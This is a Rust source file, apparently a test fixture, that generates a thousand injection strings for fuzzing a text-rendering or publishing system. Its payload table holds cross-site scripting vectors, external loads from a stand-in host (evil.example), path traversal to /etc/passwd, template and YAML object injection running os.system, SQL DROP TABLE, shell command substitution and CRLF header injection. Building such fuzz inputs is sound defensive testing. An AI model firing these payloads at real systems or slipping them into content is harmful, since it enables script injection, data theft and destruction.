//! A thousand texts that want to be more than text: made of kinds, always the same.

/// What leads out of the place where a text stands.
const LEADS: [&str; 20] = [
    "",
    "\"",
    "'",
    "`",
    "\">",
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "</option></select>",
    "\" autofocus onfocus=alert(1) x=\"",
    "\\\"",
    "\n+++\n",
    "\n---\n",
    "\u{0}",
    "\u{202e}",
    "&#34;&gt;",
    "{}",
];

/// What it would do there.
const CORES: [&str; 50] = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input name=token value=x>",
    "<button formaction=//evil.example>x</button>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<!--><script>alert(1)</script-->",
    "<plaintext>",
    "<template><script>alert(1)</script></template>",
    "onmouseover=alert(1) style=position:fixed;inset:0",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/x",
    "https://localhost:4510@evil.example/",
    "../../../../etc/passwd",
    "{{7*7}}{% include \"khobor.toml\" %}{{ config }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{{<figure src=\"x\" onerror=\"alert(1)\" />}}",
    "{% <factbox title=\"\"><script>alert(1)</script>\"> %}",
    "[x](javascript:alert(1)) ![x](x\"onerror=alert(1))",
    "<javascript:alert(1)> [x]: javascript:alert(1) [^1]: <script>",
    "```\n<script>alert(1)</script>\n~~~",
    "title = \"চুরি\"\ndraft = false\n[[corrections]]",
    "\"\"\"\n[extra]\nk = '''",
    "title: !!python/object/apply:os.system [\"id\"]",
    "&a [*a, *a, *a]\n? |\n  - >",
    "শিরোনাম: চুরি\nতারিখ: কাল",
    "\u{1}\u{7}\u{8}\u{b}\u{c}\u{1b}[31m\u{7f}\u{85}\u{9b}",
    "\u{feff}\u{200b}\u{2028}\u{2029}\u{2066}\u{2069}\u{200f}",
    "\u{fffe}\u{ffff}\u{10ffff}\u{fdd0}",
    "'; DROP TABLE copy; --",
    "$(id)`id`|id;id",
    "%00%0d%0aSet-Cookie:%20a=b%3Cscript%3E",
    "\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    // Long ones are made longer below.
    "LONG:ক",
    "LONG:[",
    "LONG:ক\u{9cd}\u{981}\u{9be}\u{301}",
];

/// One of the payloads; `n` is below 1,000.
pub(super) fn payload(n: usize) -> String {
    let (lead, core) = (LEADS[n % 20], CORES[n / 20]);
    match core.strip_prefix("LONG:") {
        Some(unit) => format!("{lead}{}<b>{n}", unit.repeat(20_000 / unit.len())),
        None => format!("{lead}{core}<b>{n}"),
    }
}

#[test]
fn there_are_a_thousand_and_no_two_alike() {
    let all: std::collections::BTreeSet<String> = (0..1000).map(payload).collect();
    assert_eq!(all.len(), 1000);
}
